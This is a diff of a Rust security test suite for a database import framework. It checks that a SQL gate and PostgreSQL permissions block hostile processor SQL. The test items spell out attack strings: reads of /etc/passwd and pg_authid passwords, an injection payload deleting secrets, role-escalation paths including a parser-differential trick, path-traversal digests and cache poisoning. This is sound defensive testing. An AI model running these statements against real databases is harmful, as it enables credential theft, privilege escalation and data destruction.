+        assert_eq!(arena.db.scalar_i64("SELECT count(*) FROM probe_rows WHERE label = 'keep me'").await, 1);
+    }
 }
 
 #[tokio::test]
 async fn hostile_write_through_a_data_modifying_cte_is_denied() {
-    let reason = Arena::new()
-        .await
-        .attack(query("WITH gone AS (DELETE FROM secrets RETURNING *) SELECT * FROM gone"))
-        .await;
-    assert_reason(&reason, &["permission denied for table secrets"]);
+    for host in HOSTS {
+        let reason = Arena::new(host)
+            .await
+            .attack(query("WITH gone AS (DELETE FROM secrets RETURNING *) SELECT * FROM gone"))
+            .await;
+        assert_reason(&reason, &["permission denied for table secrets"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_copying_framework_data_into_a_granted_table_is_denied() {
-    let reason = Arena::new()
-        .await
-        .attack(sql("INSERT INTO probe_rows (label) SELECT source_data::text FROM import_batch_items"))
-        .await;
-    assert_reason(&reason, &["permission denied for table import_batch_items"]);
+    for host in HOSTS {
+        let arena = Arena::new(host).await;
+        let attack = sql("INSERT INTO probe_rows (label) SELECT source_data::text FROM import_batch_items");
+        assert_reason(
+            &arena.attack(attack.clone()).await,
+            &["refused by the SQL gate", "Ingot's own tables"],
+        );
+        assert_reason(&arena.attack_wall(attack).await, &["permission denied for table import_batch_items"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_reading_pg_authid_is_denied() {
-    let reason = Arena::new().await.attack(query("SELECT rolname, rolpassword FROM pg_authid")).await;
-    assert_reason(&reason, &["permission denied for table pg_authid"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(query("SELECT rolname, rolpassword FROM pg_authid")).await;
+        assert_reason(&reason, &["permission denied for table pg_authid"]);
+    }
 }
 
 // Functions that reach outside the database or other sessions.
 
 #[tokio::test]
 async fn hostile_pg_read_file_is_refused() {
-    let reason = Arena::new().await.attack(query("SELECT pg_read_file('/etc/passwd')")).await;
-    assert_reason(&reason, &["pg_read_file()"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(query("SELECT pg_read_file('/etc/passwd')")).await;
+        assert_reason(&reason, &["pg_read_file()"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_lo_import_is_refused() {
-    let reason = Arena::new().await.attack(query("SELECT lo_import('/etc/passwd')")).await;
-    assert_reason(&reason, &["lo_import()"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(query("SELECT lo_import('/etc/passwd')")).await;
+        assert_reason(&reason, &["lo_import()"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_dblink_is_refused() {
-    let reason = Arena::new()
-        .await
-        .attack(query(
-            "SELECT * FROM dblink('host=127.0.0.1 user=postgres', 'DELETE FROM secrets') AS t(x text)",
-        ))
-        .await;
-    assert_reason(&reason, &["dblink()"]);
+    for host in HOSTS {
+        let reason = Arena::new(host)
+            .await
+            .attack(query(
+                "SELECT * FROM dblink('host=127.0.0.1 user=postgres', 'DELETE FROM secrets') AS t(x text)",
+            ))
+            .await;
+        assert_reason(&reason, &["dblink()"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_query_to_xml_is_refused() {
-    let reason = Arena::new()
-        .await
-        .attack(query("SELECT query_to_xml('SELECT * FROM secrets', true, false, '')"))
-        .await;
-    assert_reason(&reason, &["query_to_xml()"]);
+    for host in HOSTS {
+        let reason = Arena::new(host)
+            .await
+            .attack(query("SELECT query_to_xml('SELECT * FROM secrets', true, false, '')"))
+            .await;
+        assert_reason(&reason, &["query_to_xml()"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_terminating_other_backends_is_refused() {
-    let reason =
-        Arena::new().await.attack(query("SELECT pg_terminate_backend(pid) FROM pg_stat_activity")).await;
-    assert_reason(&reason, &["pg_terminate_backend()"]);
+    for host in HOSTS {
+        let reason = Arena::new(host)
+            .await
+            .attack(query("SELECT pg_terminate_backend(pid) FROM pg_stat_activity"))
+            .await;
+        assert_reason(&reason, &["pg_terminate_backend()"]);
+    }
 }
 
 #[tokio::test]
 async fn hostile_pg_sleep_past_the_statement_timeout_is_cancelled() {
-    let reason = Arena::new().await.attack(query("SELECT pg_sleep(30)")).await;
-    assert_reason(&reason, &["statement timeout", "57014"]);
+    for host in HOSTS {
+        let reason = Arena::new(host).await.attack(query("SELECT pg_sleep(30)")).await;
+        assert_reason(&reason, &["statement timeout", "57014"]);
+    }
 }
 
 // Data the processor controls.
 
 #[tokio::test]
 async fn hostile_parameter_carrying_sql_is_stored_as_text() {
-    let arena = Arena::new().await;
-    let payload = "x'); DELETE FROM secrets; --";
-    let before = fingerprint(&arena.db, None).await;
-    let batch = arena
-        .run(&[
-            json!({"mode": "sql", "sql": "INSERT INTO probe_rows (label) VALUES ($1)", "params": [payload]}),
-        ])
-        .await;
-    assert_eq!(
-        arena
-            .db
-            .scalar_i64(&format!(
-                "SELECT count(*) FROM probe_rows WHERE label = '{}'",
-                payload.replace('\'', "''")
-            ))
-            .await,
-        1
-    );
-    assert_eq!(fingerprint(&arena.db, Some(batch)).await, before);
+    for host in HOSTS {
+        let arena = Arena::new(host).await;
+        let payload = "x'); DELETE FROM secrets; --";
+        let before = fingerprint(&arena.db, None).await;
+        let batch = arena
+            .run(&[
+                json!({"mode": "sql", "sql": "INSERT INTO probe_rows (label) VALUES ($1)", "params": [payload]}),
+            ])
+            .await;
+        assert_eq!(
+            arena
+                .db
+                .scalar_i64(&format!(
+                    "SELECT count(*) FROM probe_rows WHERE label = '{}'",
+                    payload.replace('\'', "''")
+                ))
+                .await,
+            1
+        );
+        assert_eq!(fingerprint(&arena.db, Some(batch)).await, before);
+    }
 }
 
 #[tokio::test]
 async fn hostile_nul_characters_cannot_break_the_hosts_own_writes() {
-    let reason = Arena::new()
-        .await
-        .attack(json!({"mode": "invalid", "message": "evil<NUL>message", "code": "nul<NUL>code"}))
-        .await;
-    assert_eq!(reason, "evil\u{FFFD}message");
+    for host in HOSTS {
+        let reason = Arena::new(host)
+            .await
+            .attack(json!({"mode": "invalid", "message": "evil<NUL>message", "code": "nul<NUL>code"}))
+            .await;
+        assert_eq!(reason, "evil\u{FFFD}message");
+    }
 }
 
 #[tokio::test]
 async fn hostile_nul_characters_in_metadata_cannot_break_the_hosts_own_writes() {
-    let arena = Arena::new().await;
-    let before = fingerprint(&arena.db, None).await;
-    let batch = arena
-        .run(&[
-            json!({"mode": "metadata_set", "key": "k<NUL>ey", "value": "v<NUL>alue"}),
-            json!({"mode": "ok"}),
-        ])
-        .await;
-    let metadata: Value = sqlx::query_scalar("SELECT metadata FROM import_batches WHERE id = $1")
-        .bind(batch)
-        .fetch_one(&arena.db.pool)
-        .await
-        .unwrap();
-    assert_eq!(metadata["k\u{FFFD}ey"], "v\u{FFFD}alue");
-    assert_eq!(fingerprint(&arena.db, Some(batch)).await, before);
+    for host in HOSTS {
+        let arena = Arena::new(host).await;
+        let before = fingerprint(&arena.db, None).await;
+        let batch = arena
+            .run(&[
+                json!({"mode": "metadata_set", "key": "k<NUL>ey", "value": "v<NUL>alue"}),
+                json!({"mode": "ok"}),
+            ])
+            .await;
+        let metadata: Value = sqlx::query_scalar("SELECT metadata FROM import_batches WHERE id = $1")
+            .bind(batch)
+            .fetch_one(&arena.db.pool)
+            .await
+            .unwrap();
+        assert_eq!(metadata["k\u{FFFD}ey"], "v\u{FFFD}alue");
+        assert_eq!(fingerprint(&arena.db, Some(batch)).await, before);
+    }
 }
 
 #[tokio::test]
 async fn hostile_nul_characters_in_a_batch_rejection_cannot_break_the_hosts_own_writes() {
-    let arena = Arena::new().await;
-    let path = arena.files.path().join("reject.ndjson");
-    std::fs::write(&path, "{\"mode\": \"ok\"}\n").unwrap();
-    let create = CreateOptions { metadata: Some(json!({"reject": "no<NUL>way"})), ..Default::default() };
-    let summary = arena
-        .manager
-        .run(
-            "probe",
-            InputSource::from_arg(path.to_str().unwrap(), None).unwrap(),
-            &create,
-            &ProcessOptions::workers(1),
-            None,
+    for host in HOSTS {
+        let arena = Arena::new(host).await;
+        let path = arena.files.path().join("reject.ndjson");
+        std::fs::write(&path, "{\"mode\": \"ok\"}\n").unwrap();
+        let create = CreateOptions { metadata: Some(json!({"reject": "no<NUL>way"})), ..Default::default() };
+        let summary = arena
+            .manager
+            .run(
+                "probe",
+                InputSource::from_arg(path.to_str().unwrap(), None).unwrap(),
+                &create,
+                &ProcessOptions::workers(1),
+                None,
+            )
+            .await
+            .expect("the host survives");
+        assert_eq!(summary.status, ingot::store::BatchStatus::Failed);
+        assert!(summary.error_message.unwrap().contains("no\u{FFFD}way"));
+        // And the next batch runs.
+        arena.attack(json!({"mode": "invalid", "message": "ordinary"})).await;
+    }
+}
+
+// The database wall: the processor's connection logs in as its own role, so no SQL path can make
+// it anyone else. Each attack is tried through the gate (refused there) and with the gate off
+// (PostgreSQL refuses it).
+
+/// An escalation followed by its payoff: forging counters, which only a role above the
+/// processor's may do. An escalation that seems to pass silently still fails at the payoff.
+fn escalate(steps: &[&str]) -> Value {
+    let mut statements: Vec<&str> = steps.to_vec();
+    statements.push("UPDATE import_batch_counters SET completed = completed + 1000");
+    json!({"mode": "sql_sequence", "query": true, "statements": statements})
+}
+
+/// The wall's answer to any escalation: PostgreSQL's own refusal.
+fn assert_denied(reason: &str) {
+    assert!(
+        reason.contains("permission denied to set role")
+            || reason.contains("permission denied to set session authorization")
+            || reason.contains("permission denied for table import_batch_counters"),
+        "the reason {reason:?} should be PostgreSQL refusing the escalation"
+    );
+}
+
+#[tokio::test]
+async fn hostile_ts_stat_cannot_make_the_processor_the_hosts_login() {
+    for host in HOSTS {
+        let arena = Arena::new(host).await;
+        let attack = format!(
+            "SELECT * FROM ts_stat($$SELECT set_config('role', '{}', true)::tsvector$$)",
+            arena.host_login
+        );
+        assert_reason(&arena.attack(escalate(&[&attack])).await, &["refused by the SQL gate", "ts_stat()"]);
+        let reason = arena.attack_wall(escalate(&[&attack])).await;
+        assert_reason(&reason, &[&format!("permission denied to set role \"{}\"", arena.host_login)]);
+    }
+}
+
+#[tokio::test]
+async fn hostile_ts_rewrite_cannot_make_the_processor_the_hosts_login() {
+    for host in HOSTS {
+        let arena = Arena::new(host).await;
+        let attack = format!(
+            "SELECT ts_rewrite('a'::tsquery, $$SELECT set_config('role', '{}', true)::tsquery, 'b'::tsquery$$)::text",
+            arena.host_login
+        );
+        assert_reason(
+            &arena.attack(escalate(&[&attack])).await,
+            &["refused by the SQL gate", "ts_rewrite()"],
+        );
+        let reason = arena.attack_wall(escalate(&[&attack])).await;
+        assert_reason(&reason, &[&format!("permission denied to set role \"{}\"", arena.host_login)]);
+    }
+}
+
+#[tokio::test]
+async fn hostile_pg_settings_parser_differential_cannot_make_the_processor_anyone_else() {
+    for host in HOSTS {
+        let arena = Arena::new(host).await;
+        let off = "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'";
+        // With the setting off, the server reads a set_config call where the gate's parser (which
+        // assumes it on) reads string literals.
+        let differential = format!(
+            r"SELECT 'a\' , ' , set_config($$role$$, $${}$$, true) AS c, ' || ' -- '",
+            arena.host_login
+        );
+        let reason = arena.attack(escalate(&[off, &differential])).await;
+        assert_reason(&reason, &["refused by the SQL gate", "pg_settings is a system catalog"]);
+        let reason = arena.attack_wall(escalate(&[off, &differential])).await;
+        assert_reason(&reason, &[&format!("permission denied to set role \"{}\"", arena.host_login)]);
+    }
+}
+
+#[tokio::test]
+async fn hostile_role_and_session_authorization_cannot_be_changed_by_any_path() {
+    for host in HOSTS {
+        let arena = Arena::new(host).await;
+        let h = arena.host_login.clone();
+        let paths: Vec<Vec<String>> = vec![
+            vec![format!("SELECT set_config('role', '{h}', false)")],
+            vec![format!("SELECT set_config('role', '{h}', true)")],
+            vec![format!("SELECT set_config('session_authorization', '{h}', false)")],
+            vec![format!("SELECT set_config('session_authorization', '{h}', true)")],
+            vec![format!("SET ROLE \"{h}\"")],
+            vec![format!("SET LOCAL ROLE \"{h}\"")],
+            vec![format!("SET SESSION AUTHORIZATION \"{h}\"")],
+            vec!["RESET ROLE".into()],
+            vec!["RESET SESSION AUTHORIZATION".into()],
+            vec![format!(
+                "UPDATE pg_settings SET setting = '{h}' WHERE name IN ('role', 'session_authorization')"
+            )],
+            vec![format!(
+                "SELECT * FROM ts_stat($$SELECT set_config('session_authorization', '{h}', false)::tsvector$$)"
+            )],
+            vec![format!(
+                "SELECT query_to_xml($$SELECT set_config('role', '{h}', false)$$, true, false, '')::text"
+            )],
+            vec![format!("DO $$ BEGIN PERFORM set_config('role', '{h}', false); END $$")],
+            vec![format!("EXPLAIN ANALYZE SELECT set_config('role', '{h}', false)")],
+            vec![format!("WITH r AS (SELECT set_config('role', '{h}', false)) SELECT * FROM r")],
+            vec![
+                format!("PREPARE escalate AS SELECT set_config('role', '{h}', false)"),
+                "EXECUTE escalate".into(),
+            ],
+        ];
+        for path in paths {
+            let steps: Vec<&str> = path.iter().map(String::as_str).collect();
+            let reason = arena.attack(escalate(&steps)).await;
+            assert_reason(&reason, &["refused by the SQL gate"]);
+            assert_denied(&arena.attack_wall(escalate(&steps)).await);
+        }
+    }
+}
+
+#[tokio::test]
+async fn hostile_calls_to_the_frameworks_own_functions_change_nothing() {
+    for host in HOSTS {
+        let arena = Arena::new(host).await;
+        let b = arena.innocent;
+        let attacks = [
+            format!("SELECT * FROM ingot_claim('{b}', 'probe', 0)"),
+            format!("SELECT ingot_open('{b}', 'probe')::text"),
+            format!(
+                "SELECT ingot_finish_item(NULL, '{b}', '<ITEM_ID>', 0::smallint, '{{\"status\": \"completed\"}}')::text"
+            ),
+            format!(
+                "SELECT ingot_finish_item(gen_random_uuid(), '{b}', id, 0::smallint, '{{\"status\": \"completed\"}}')::text \
+                 FROM (SELECT gen_random_uuid() AS id) g"
+            ),
+            format!("SELECT ingot_batch_transition(NULL, '{b}', 'failed', NULL, 'forged')"),
+            format!("SELECT * FROM ingot_batch_info(NULL, '{b}')"),
+            format!("SELECT ingot_batch_record(NULL, '{b}', '{{\"metadata\": {{\"forged\": true}}}}')::text"),
+            format!("SELECT ingot_check(NULL, '{b}')::text"),
+            "SELECT token::text FROM ingot_host_transactions".into(),
+            "SELECT password FROM ingot_processor_roles".into(),
+            "LOCK TABLE ingot_processor_roles IN ACCESS EXCLUSIVE MODE".into(),
+        ];
+        for attack in attacks {
+            let item = json!({"mode": "sql_sequence", "query": true, "statements": [attack]});
+            let reason = arena.attack(item.clone()).await;
+            assert_reason(&reason, &["refused by the SQL gate"]);
+            let reason = arena.attack_wall(item).await;
+            assert!(
+                reason.contains("only the host")
+                    || reason.contains("already open")
+                    || reason.contains("permission denied for function ingot_check")
+                    || reason.contains("permission denied for table ingot_"),
+                "{attack}: the wall's refusal should say why, not {reason:?}"
+            );
+        }
+    }
+}
+
+#[tokio::test]
+async fn hostile_session_state_left_behind_is_undone_before_the_next_item() {
+    for host in HOSTS {
+        let arena = Arena::new(host).await;
+        for setter in [
+            "SELECT set_config('search_path', 'pg_catalog', false)",
+            "SELECT set_config('default_transaction_read_only', 'on', false)",
+            "SELECT set_config('transaction_read_only', 'on', false)",
+            "SELECT set_config('default_transaction_isolation', 'serializable', false)",
+            "SELECT set_config('statement_timeout', '1', false)",
+            "SELECT set_config('lock_timeout', '1', false)",
+            "SELECT set_config('idle_in_transaction_session_timeout', '1', false)",
+            "SELECT set_config('client_encoding', 'LATIN1', false)",
+            "SELECT set_config('standard_conforming_strings', 'off', false)",
+            "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
+            "UPDATE pg_settings SET setting = 'pg_catalog' WHERE name = 'search_path'",
+            "SELECT set_config('exit_on_error', 'on', false)",
+            "SET enable_indexscan = off",
+            "SET work_mem = '1GB'",
+            "SELECT pg_advisory_lock(42)",
+            "SELECT pg_advisory_lock(hashtext('ingot:processor-roles'))",
+            "SELECT lo_create(0)::text",
+            "PREPARE leftover AS SELECT 1",
+            "DECLARE leftover CURSOR WITH HOLD FOR SELECT 1",
+            "CREATE TEMP TABLE leftover (a int)",
+            "LISTEN ingot_batches",
+        ] {
+            let item = json!({"mode": "sql_sequence", "query": true, "statements": [setter]});
+            let reason = arena.attack(item.clone()).await;
+            assert_reason(&reason, &["refused by the SQL gate"]);
+            // Without the gate the statement runs, and may even leave its item completed; what
+            // it left in the session is gone before the host's next statement (`contain` checks
+            // the next item's session against the clean one).
+            let (status, error) = arena.contain(&arena.wall, item).await;
+            assert!(status == "completed" || error.is_some(), "{setter}: {status}");
+        }
+        // And a batch after all that syncs the role and runs as usual.
+        arena.attack(json!({"mode": "invalid", "message": "ordinary"})).await;
+    }
+}
+
+#[tokio::test]
+async fn hostile_a_backend_that_terminates_itself_fails_its_item_after_max_attempts() {
+    for host in HOSTS {
+        let arena = Arena::new(host).await;
+        let attack = query("SELECT pg_terminate_backend(pg_backend_pid())");
+        assert_reason(
+            &arena.attack(attack.clone()).await,
+            &["refused by the SQL gate", "pg_terminate_backend()"],
+        );
+        let reason = arena.attack_wall(attack).await;
+        assert_reason(&reason, &["connection was lost in 3 attempt(s)"]);
+        let lost = arena
+            .db
+            .scalar_i64("SELECT max(interruptions)::bigint FROM import_batch_items WHERE status = 'failed' AND error_code = 'connection_lost'")
+            .await;
+        assert_eq!(lost, 3, "three attempts (the manifest's default max_attempts), then it fails");
+    }
+}
+
+#[tokio::test]
+async fn hostile_statement_timeout_reset_then_sleep_is_cancelled_by_the_host_at_the_time_limit() {
+    for host in HOSTS {
+        let arena = Arena::new(host).await;
+        for reset in ["SELECT set_config('statement_timeout', '0', true)", "SET LOCAL statement_timeout = 0"]
+        {
+            let attack = json!({"mode": "sql_sequence", "query": true, "statements": [reset, "SELECT pg_sleep(30)::text"]});
+            assert_reason(&arena.attack(attack.clone()).await, &["refused by the SQL gate"]);
+            let started = std::time::Instant::now();
+            let reason = arena.attack_wall(attack).await;
+            assert_reason(&reason, &["500 ms time limit"]);
+            // The limit plus a small margin, not the 30 s sleep (the whole batch of three items).
+            assert!(started.elapsed() < std::time::Duration::from_secs(8), "took {:?}", started.elapsed());
+        }
+    }
+}
+
+#[tokio::test]
+async fn hostile_a_processor_digest_naming_a_path_never_loads_a_file_from_outside_the_cache() {
+    for host in HOSTS {
+        let db = match host {
+            Host::Superuser => TestDb::new().await,
+            Host::Owner => TestDb::with_owner().await,
+        };
+        db.apply(SCHEMA).await;
+        let dir = tempfile::tempdir().unwrap();
+        let cache = dir.path().join("cache");
+        let runtime = std::sync::Arc::new(
+            ingot::runtime::Runtime::new(ingot::runtime::RuntimeConfig {
+                cache_dir: Some(cache.clone()),
+                fuel_metering: false,
+            })
+            .unwrap(),
+        );
+        let processors = Processors::new(&[("probe", &guest("probe"), Some(MANIFEST))]);
+        let manager = support::manager(&db, &processors, std::sync::Arc::clone(&runtime));
+        // A valid compiled component of another processor, planted outside the cache under the
+        // name a digest of `../../outside/evil` would lead to.
+        runtime.load(&guest("customer_data")).unwrap();
+        let entries: Vec<std::path::PathBuf> = std::fs::read_dir(cache.join("wasmtime-48"))
+            .unwrap()
+            .map(|e| e.unwrap().path())
+            .filter(|p| p.extension().is_some_and(|e| e == "cwasm"))
+            .collect();
+        let compiled = &entries[0];
+        let config = compiled.file_stem().unwrap().to_str().unwrap().rsplit('-').next().unwrap().to_owned();
+        std::fs::create_dir_all(dir.path().join("outside")).unwrap();
+        let planted = dir.path().join("outside").join(format!("evil-{config}.cwasm"));
+        std::fs::copy(compiled, &planted).unwrap();
+        std::fs::copy(format!("{}.mac", compiled.display()), format!("{}.mac", planted.display())).unwrap();
+
+        let path = dir.path().join("items.ndjson");
+        std::fs::write(&path, "{\"mode\": \"ok\"}\n{\"mode\": \"ok\"}\n").unwrap();
+        let source = InputSource::from_arg(path.to_str().unwrap(), None).unwrap();
+        let id = manager.create("probe", source, &CreateOptions::default()).await.unwrap();
+        // A forged row: the batch claims to have started with a "digest" that is a path.
+        sqlx::query(
+            "UPDATE import_batches SET status = 'processing', started_at = now(), processor_digest = '../../outside/evil'
+             WHERE id = $1",
         )
+        .bind(id)
+        .execute(&db.pool)
         .await
-        .expect("the host survives");
-    assert_eq!(summary.status, ingot::store::BatchStatus::Failed);
-    assert!(summary.error_message.unwrap().contains("no\u{FFFD}way"));
-    // And the next batch runs.
-    arena.attack(json!({"mode": "invalid", "message": "ordinary"})).await;
+        .unwrap();
+        let summary = manager.process(id, &ProcessOptions::workers(1), None).await.unwrap();
+        assert_eq!(summary.completed, 2, "the probe ran, not the planted code: {:?}", summary.top_errors);
+        let echoed = db
+            .scalar_i64(&format!(
+                "SELECT count(*) FROM import_batch_items WHERE batch_id = '{id}' AND processed_data ? 'echo'"
+            ))
+            .await;
+        assert_eq!(echoed, 2);
+        let warned = db
+            .scalar_i64(&format!(
+                "SELECT count(*) FROM import_logs WHERE batch_id = '{id}' AND message LIKE '%is no longer available on this host%'"
+            ))
+            .await;
+        assert_eq!(warned, 1, "the resume says the version it started with is not available");
+    }
+}
+
+#[tokio::test]
+async fn hostile_a_compiled_component_the_host_did_not_write_is_never_loaded() {
+    let dir = tempfile::tempdir().unwrap();
+    let cache = dir.path().join("cache");
+    let config = || ingot::runtime::RuntimeConfig { cache_dir: Some(cache.clone()), fuel_metering: false };
+    let runtime = ingot::runtime::Runtime::new(config()).unwrap();
+    let probe = runtime.load(&guest("probe")).unwrap();
+    let other = runtime.load(&guest("customer_data")).unwrap();
+    let entry = |digest: &str| {
+        std::fs::read_dir(cache.join("wasmtime-48"))
+            .unwrap()
+            .map(|e| e.unwrap().path())
+            .find(|p| p.extension().is_some_and(|e| e == "cwasm") && p.to_str().unwrap().contains(digest))
+            .unwrap()
+    };
+    // Another processor's compiled code, copied over the probe's entry (with its own HMAC, which
+    // is bound to its own name): a valid artifact, but not one the host wrote under this name.
+    std::fs::copy(entry(&other.digest), entry(&probe.digest)).unwrap();
+    std::fs::copy(
+        format!("{}.mac", entry(&other.digest).display()),
+        format!("{}.mac", entry(&probe.digest).display()),
+    )
+    .unwrap();
+    let fresh = ingot::runtime::Runtime::new(config()).unwrap();
+    let loaded = fresh.load(&guest("probe")).unwrap();
+    assert_eq!(loaded.cache, ingot::runtime::cache::CacheOutcome::Compiled, "recompiled, not loaded");
+    // A symlink in the cache is never followed.
+    let target = entry(&probe.digest);
+    std::fs::remove_file(&target).unwrap();
+    std::os::unix::fs::symlink(entry(&other.digest), &target).unwrap();
+    let fresh = ingot::runtime::Runtime::new(config()).unwrap();
+    assert_eq!(fresh.load(&guest("probe")).unwrap().cache, ingot::runtime::cache::CacheOutcome::Compiled);
+    // Nor is a digest that is not a sha256.
+    assert!(fresh.load_digest("../../etc/passwd").is_none());
 }
